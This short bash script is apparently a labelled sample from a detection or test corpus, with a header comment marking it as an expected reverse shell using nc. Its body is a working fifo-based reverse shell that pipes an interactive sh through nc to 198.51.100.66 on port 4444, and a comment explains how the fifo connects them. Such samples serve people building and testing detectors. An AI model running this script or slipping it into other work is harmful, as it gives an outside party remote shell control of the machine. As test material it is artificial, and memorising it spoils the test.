#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=nc,dash seconds=10
# A fifo joins sh and nc: the shell has no socket of its own.
cd "$LAB" || exit 1
rm -f fifo && mkfifo fifo
sh -i <fifo 2>&1 | nc -N 198.51.100.66 4444 >fifo
true
